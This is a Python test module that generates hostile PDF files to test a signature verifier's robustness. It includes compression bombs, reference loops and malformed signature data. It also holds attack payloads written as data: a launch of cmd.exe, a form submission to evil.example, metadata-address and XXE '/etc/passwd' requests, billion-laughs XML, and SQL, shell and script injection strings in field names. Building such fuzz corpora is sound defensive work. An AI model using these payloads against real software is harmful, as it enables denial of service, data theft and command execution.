"""
Three hundred files that nobody should open without care: bombs, loops, polyglots, nonsense (reliability bar 25).

They are made when asked for, never stored. Most are PDFs, since anything else is turned away by
its first bytes; each is a name and a way to make it.
"""

import random
import re
import struct
import zlib
from collections.abc import Iterator
from functools import partial

from tests.mutations import mutated
from tests.web.hostile_others import HEAD, Make, a_bomb, no_papers

ROOT, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
SIGNED_ROOT = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[%s]>>>>"
FIELD = b"<</FT/Sig/T(a)/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/V %d 0 R>>"
VALUE = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[%s]/Contents %s>>"


def a_pdf(*objects: bytes, trailer: bytes = b"", header: bytes = HEAD) -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is its root."""
    file, places = bytearray(header), []
    for number, content in enumerate(objects, 1):
        places.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(file)
    file += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        file += b"%010d 00000 n \n" % place
    end = b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(file + end % (len(objects) + 1, trailer, table))


def a_stream(content: bytes, entries: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


def files(paper: bytes) -> dict[str, Make]:
    """Return all of them; `paper` is a signed one, to be doctored."""
    families = (_bombs, _tables, _trees, _nesting, _crowds, _signatures, _values, _actions, _names, _numbers, no_papers)
    made = {name: make for family in families for name, make in family()}
    made |= dict(_doctored(paper, 300 - len(made)))
    return made


def a_sample(paper: bytes, count: int) -> dict[str, Make]:
    """Return `count` of them, spread over all kinds."""
    made = list(files(paper).items())
    return dict(made[:: max(1, len(made) // count)][:count])


def _bombs() -> Iterator[tuple[str, Make]]:
    for size in (64, 512, 1024):
        yield f"a stream of {size} MB", partial(_with_a_bomb, ROOT, size)
        yield f"a stream of {size} MB packed twice", partial(_packed_twice, size)
        for key, entries in (
            ("proofs", b"<</CRLs[4 0 R]/OCSPs[4 0 R]/Certs[4 0 R]>>"),
            ("proofs by the hundred", b"<</CRLs[" + b"4 0 R " * 100 + b"]>>"),
        ):
            root = b"<</Type/Catalog/Pages 2 0 R/DSS %s>>" % entries
            yield f"{key} of {size} MB", partial(_with_a_bomb, root, size)
        yield f"metadata of {size} MB", partial(_with_root, b"/Metadata 4 0 R", size)
        yield f"objects packed to {size} MB", partial(_object_stream, size)
        yield f"a table of {size} MB", partial(_table_of, size)
    for letters in (
        b"/ASCIIHexDecode",
        b"/ASCII85Decode",
        b"/LZWDecode",
        b"/RunLengthDecode",
        b"/JBIG2Decode",
        b"/Nope",
    ):
        yield f"a stream by {letters.decode()}", partial(_filtered, letters)


def _with_a_bomb(root: bytes, megabytes: int) -> bytes:
    return a_pdf(root, PAGES, PAGE, a_stream(a_bomb(megabytes)))


def _packed_twice(megabytes: int) -> bytes:
    packed = zlib.compress(a_bomb(megabytes), 9)
    return a_pdf(ROOT, PAGES, PAGE, a_stream(packed, b"/Filter[/FlateDecode/FlateDecode]"))


def _with_root(entry: bytes, megabytes: int) -> bytes:
    return a_pdf(ROOT[:-2] + entry + b">>", PAGES, PAGE, a_stream(a_bomb(megabytes)))


def _object_stream(megabytes: int) -> bytes:
    packed = a_stream(a_bomb(megabytes), b"/Type/ObjStm/N 1000000/First 9/Filter/FlateDecode")
    return _table_stream(struct.pack(">BIH", 2, 2, 0) * 5, 5, packed)


def _table_of(megabytes: int) -> bytes:
    entries = b"/Type/XRef/Size 99999999/W[1 4 2]/Root 2 0 R/Filter/FlateDecode"
    return HEAD + b"1 0 obj\n" + a_stream(a_bomb(megabytes), entries) + b"\nendobj\nstartxref\n9\n%%EOF\n"


def _table_stream(table: bytes, size: int, *objects: bytes, widths: bytes = b"1 4 2") -> bytes:
    entries = b"/Type/XRef/Size %d/W[%s]/Root 1 0 R" % (size, widths)
    body = HEAD + b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, 2))
    start = len(body)
    return body + b"9 0 obj\n" + a_stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def _filtered(letters: bytes) -> bytes:
    return a_pdf(ROOT, PAGES, PAGE, a_stream(b"80" * 500_000, b"/Filter" + letters))


def _tables() -> Iterator[tuple[str, Make]]:
    plain = a_pdf(ROOT, PAGES, PAGE, a_stream(b"q Q", b""))
    start = int(re.findall(rb"startxref\n(\d+)", plain)[0])
    for name, at in (("itself", start), ("nothing", 0), ("beyond the end", 10**9), ("before the file", -1)):
        trailer = b"/Prev %d" % at
        yield f"a table whose forerunner is {name}", partial(a_pdf, ROOT, PAGES, PAGE, trailer=trailer)
        yield f"a hybrid table at {name}", partial(a_pdf, ROOT, PAGES, PAGE, trailer=b"/XRefStm %d" % at)
        yield f"an end that points to {name}", partial(bytes, plain + b"startxref\n%d\n%%%%EOF\n" % at)
    for widths in (b"0 0 0", b"1 0 0", b"8 8 8", b"-1 4 2", b"1 4", b"99999999 1 1", b"1 4 2 9"):
        yield f"a table of widths {widths.decode()}", partial(_table_stream, b"\1" * 70, 10, widths=widths)
    for size in (0, -1, 10**7, 10**18):
        yield f"a table that says {size} objects", partial(_table_stream, b"\1\0\0\0\11\0\0" * 9, size)
    for count in (1, 3):
        yield f"{count} tables that are each other's forerunners", partial(_ring_of_tables, count)
    for count in (100, 600, 5000, 100_000):
        yield f"{count} updates of nothing", partial(_updates, count)


def _ring_of_tables(count: int) -> bytes:
    body = a_pdf(ROOT, PAGES, PAGE)
    starts = [len(body) + 70 * number for number in range(count)]
    for number, start in enumerate(starts):
        body = body.ljust(start, b" ")
        body += b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\n" % starts[number - 1]
    return body + b"startxref\n%d\n%%%%EOF\n" % starts[-1]


def _updates(count: int) -> bytes:
    body = bytearray(a_pdf(ROOT, PAGES, PAGE))
    previous = int(re.findall(rb"startxref\n(\d+)", body)[-1])
    for _ in range(count):
        start = len(body)
        body += b"xref\n0 0\ntrailer\n<</Size 4/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)
        previous = start
    return bytes(body)


def _trees() -> Iterator[tuple[str, Make]]:
    yield "pages that hold themselves", lambda: a_pdf(ROOT, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    for depth in (20, 60, 1000, 20_000):
        two = [b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count 9>>" % (n, n) for n in range(3, 3 + depth)]
        yield f"pages that double {depth} times", partial(a_pdf, ROOT, *two, PAGE)
        one = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % n for n in range(3, 3 + depth)]
        yield f"pages {depth} deep", partial(a_pdf, ROOT, *one, PAGE)
        fields = [b"<</FT/Sig/T(a)/Kids[%d 0 R %d 0 R]>>" % (n, n) for n in range(3, 3 + depth)]
        root = SIGNED_ROOT % b"3 0 R"
        yield f"fields that double {depth} times", partial(a_pdf, root, PAGES, *fields, PAGE)
    for kids in (10_000, 300_000):
        many = b"<</Type/Pages/Count %d/Kids[" % kids + b"3 0 R " * kids + b"]>>"
        yield f"{kids} pages", partial(a_pdf, ROOT, many, PAGE)
    yield "fields that hold themselves", lambda: a_pdf(SIGNED_ROOT % b"3 0 R", PAGES, b"<</FT/Sig/T(a)/Kids[3 0 R]>>")
    yield (
        "a form that is its own list",
        lambda: a_pdf(b"<</Type/Catalog/Pages 2 0 R/AcroForm 3 0 R>>", PAGES, b"[3 0 R]"),
    )
    yield "an object that is itself", lambda: a_pdf(ROOT, PAGES, b"3 0 R")
    yield "a length that is its own stream", lambda: a_pdf(ROOT, PAGES, b"<</Length 3 0 R>>\nstream\nx\nendstream")


def _nesting() -> Iterator[tuple[str, Make]]:
    for depth in (100, 1000, 100_000, 1_000_000):
        for opening, closing in ((b"[", b"]"), (b"<</A", b">>"), (b"(", b")")):
            deep = opening * depth + closing * depth
            what = opening.decode()
            yield f"{depth} times {what}", partial(a_pdf, ROOT, PAGES, deep)
            yield f"{depth} times {what}, never closed", partial(a_pdf, ROOT, PAGES, opening * depth)
    for opening in (b"<<", b"[", b"(", b"<", b"/A", b"1 0 obj ", b"%", b"stream\n", b"endobj\n", b"\0"):
        filled = 4 * 1024 * 1024 // len(opening)
        yield f"4 MB of {opening!r}", partial(bytes, HEAD + opening * filled)


def _crowds() -> Iterator[tuple[str, Make]]:
    for count in (1000, 400_000):
        yield f"{count} objects", partial(a_pdf, ROOT, PAGES, PAGE, *[b"<<>>"] * count)
        yield f"{count} ends", partial(bytes, HEAD + b"startxref\n0\n%%EOF\n" * count)
    for count in (100, 2000, 50_000):
        fields = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
        empty = [b"<</FT/Sig/T(f%d)>>" % number for number in range(count)]
        yield f"{count} empty fields", partial(a_pdf, SIGNED_ROOT % fields, PAGES, *empty)
        signed = [b"<</FT/Sig/T(f%d)/V %d 0 R>>" % (number, count + 3) for number in range(count)]
        value = VALUE % (b"0 10 20 30", b"<30>")
        yield f"{count} fields of one signature", partial(a_pdf, SIGNED_ROOT % fields, PAGES, *signed, value)
    yield "200,000 keys", lambda: a_pdf(ROOT, PAGES, b"<<" + b"".join(b"/K%d 0" % n for n in range(200_000)) + b">>")


def _signatures() -> Iterator[tuple[str, Make]]:
    """One signature field, and everything that its value may say of itself."""
    ranges: tuple[bytes, ...] = (
        b"",
        b"0",
        b"0 0 0 0",
        b"0 -1 5 9",
        b"0 9 9 9",
        b"0 10 20 99999999",
        b"9 9 9 9",
        b"0 10 5 20",
        b"0 1.5 9 9",
    )
    ranges += (b"(a)", b"null", b"0 10 20 30 40 50", b"3 0 R", b"0 99999999999999999999 1 1", b"[0 10 20 30]")
    for each in ranges:
        yield f"a byte range of {each.decode()!r}", partial(_one_signature, each, b"<3000>")
    for name, contents in (
        ("nothing", b"<>"), ("a name", b"/A"), ("a number", b"9"), ("null", b"null"), ("itself", b"4 0 R"),
        ("zeros", b"<" + b"00" * 8000 + b">"), ("10 MB", b"<" + b"30" * 5_000_000 + b">"), ("a list", b"[<30>]"),
        ("odd digits", b"<30800>"), ("no hex", b"<zz>"), ("an open text", b"(abc"), ("a text", b"(abc)"),
    ):  # fmt: skip
        yield f"a signature that is {name}", partial(_one_signature, b"0 10 20 30", contents)
    for key in (
        b"/Reference[4 0 R]",
        b"/Reference[<</TransformMethod/DocMDP/TransformParams 4 0 R>>]",
        b"/Reference 9",
    ):
        yield f"a signature with {key.decode()}", partial(_one_signature, b"0 10 20 30", b"<30>" + key)
    for sub_filter in (b"/adbe.x509.rsa_sha1", b"/adbe.pkcs7.sha1", b"/ETSI.RFC3161", b"/Nope", b"9"):
        replaced = VALUE.replace(b"/ETSI.CAdES.detached", sub_filter)
        yield (
            f"a signature by {sub_filter.decode()}",
            partial(a_pdf, SIGNED_ROOT % b"3 0 R", PAGES, FIELD % 4, replaced % (b"0 10 20 30", b"<3000>")),
        )


def _one_signature(numbers: bytes, contents: bytes) -> bytes:
    return a_pdf(SIGNED_ROOT % b"3 0 R", PAGES, FIELD % 4, VALUE % (numbers, contents))


def _values() -> Iterator[tuple[str, Make]]:
    """DER that is no signature: too deep, too long, endless."""
    nested = b""
    for _ in range(3000):
        length = len(nested)
        size = bytes((length,)) if length < 128 else b"\x84" + length.to_bytes(4, "big")
        nested = b"\x30" + size + nested
    for name, der in (
        ("nested 3,000 times", nested),
        ("without an end", b"\x30\x80" * 4000),
        ("of 2 GB by its own word", b"\x30\x84\x7f\xff\xff\xff" + b"\0" * 100),
        ("of a length of 126 bytes", b"\x30\xfe" + b"\xff" * 126),
        ("of a number of 7,000 digits", b"\x02\x82\x1b\x58" + b"\xff" * 7000),
        ("of an endless tag", b"\x3f" + b"\xff" * 4000),
        ("of an object identifier of 7,000 arcs", b"\x06\x82\x1b\x58" + b"\x81" * 7000),
        ("that is a certificate request", b"\x30\x82\x01\x0a\x30\x81\xf4" + b"\x02\x01\0" * 90),
    ):
        yield f"a value {name}", partial(_covering, der)


def _covering(der: bytes) -> bytes:
    """A byte range that fits: the value is looked at."""
    pdf = a_pdf(
        SIGNED_ROOT % b"3 0 R", PAGES, FIELD % 4, VALUE % (b"0 11111 22222 33333", b"<" + der.hex().encode() + b">")
    )
    start = pdf.index(b"/Contents <") + 10
    stop = pdf.index(b">", start) + 1
    return pdf.replace(b"11111 22222 33333", b"%05d %05d %05d" % (start, stop, len(pdf) - stop))


def _actions() -> Iterator[tuple[str, Make]]:
    for name, entry in (
        ("a script", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
        ("a script that loops", b"/OpenAction<</S/JavaScript/JS(while(true){})>>"),
        ("a program to start", b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        ("an address to open", b"/OpenAction<</S/URI/URI(http://169.254.169.254/latest/)>>"),
        ("a form to send", b"/OpenAction<</S/SubmitForm/F(http://evil.example)>>"),
        ("a file of this machine", b"/OpenAction<</S/GoToR/F(/etc/passwd)>>"),
        ("scripts by name", b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"),
        ("a file within", b"/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 4 0 R>>>>]>>>>"),
        ("an action that follows itself", b"/OpenAction 4 0 R"),
        ("forms in XML", b"/AcroForm<</XFA 4 0 R/Fields[]>>"),
        ("layers", b"/OCProperties<</OCGs[4 0 R]/D<</ON[]/OFF[4 0 R]>>>>"),
        ("a collection", b"/Collection<</View/H>>"),
    ):
        yield (
            f"a paper with {name}",
            partial(a_pdf, ROOT[:-2] + entry + b">>", PAGES, PAGE, a_stream(b"q", b"")),
        )
    laughs = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    for name, xml in (
        ("a billion laughs", b'<!DOCTYPE x [<!ENTITY a0 "ha">%s]><x>&a11;</x>' % laughs),
        ("an outside entity", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
        ("an outside schema", b'<!DOCTYPE x SYSTEM "http://169.254.169.254/x.dtd"><x/>'),
    ):
        for entry in (b"/Metadata 4 0 R", b"/AcroForm<</XFA 4 0 R/Fields[]>>"):
            root = ROOT[:-2] + entry + b">>"
            where = entry.split()[0].decode()
            yield (
                f"{name} in {where}",
                partial(a_pdf, root, PAGES, PAGE, a_stream(xml, b"/Subtype/XML")),
            )


def _names() -> Iterator[tuple[str, Make]]:
    for name in (
        b"../../etc/passwd",
        b"C:\\\\con",
        b"a\\000b",
        b"{0.__class__.__init__}",
        b"%s%n%x",
        b"<script>alert(1)</script>",
        b"'; DROP TABLE documents; --",
        b"\\376\\377 \\040\\056",
        b"\\377\\376",
        b"party-1",
        b"x" * 3_000_000,
        b"\\342\\200\\256fdp.exe",
        b"$(touch /tmp/x)",
        b"",
    ):
        field = (FIELD % 4).replace(b"(a)", b"(" + name + b")")
        value = VALUE % (b"0 10 20 30", b"<3000>")
        what = name[:24].decode(errors="replace")
        yield (
            f"a field called {what!r}",
            partial(a_pdf, SIGNED_ROOT % b"3 0 R", PAGES, field, value),
        )


def _numbers() -> Iterator[tuple[str, Make]]:
    for number in (
        b"-1",
        b"0",
        b"99999999999999999999",
        b"1e400",
        b"nan",
        b"--9",
        b"0.0.0",
        b"9" * 10_000,
        b"+",
        b"true",
    ):
        shown = number[:12].decode()
        count = b"<</Type/Pages/Kids[3 0 R]/Count %s>>" % number
        yield f"{shown} pages by its own word", partial(a_pdf, ROOT, count, PAGE)
        stream = b"<</Length %s>>\nstream\nq\nendstream" % number
        yield f"a stream of length {shown}", partial(a_pdf, ROOT, PAGES, PAGE, stream)
    for version in (b"%PDF-9.9\n", b"%PDF-\n", b"%PDF-1.7" + b"x" * 1_000_000 + b"\n", b"%PDF-1.7\r", b"%PDF-1.7\0\n"):
        yield f"a header of {version[:10]!r}", partial(a_pdf, ROOT, PAGES, PAGE, header=version)
    for entries in (
        b"/Encrypt<<>>",
        b"/Encrypt<</Filter/Standard/V 1/R 2/O()/U()/P 0>>",
        b"/Encrypt 3 0 R",
        b"/ID 9",
        b"/ID[<>]",
    ):
        yield f"a trailer with {entries.decode()}", partial(a_pdf, ROOT, PAGES, PAGE, trailer=entries)


def _doctored(paper: bytes, count: int) -> Iterator[tuple[str, Make]]:
    """Signed papers with up to five changes by chance: they pass the first checks and fail somewhere later."""
    for number in range(count):
        yield f"a signed paper, doctored {number}", partial(_changed, paper, number)


def _changed(paper: bytes, seed: int) -> bytes:
    chance = random.Random(seed)
    for _ in range(1 + seed % 5):
        paper = mutated(paper, chance) or paper
    return paper
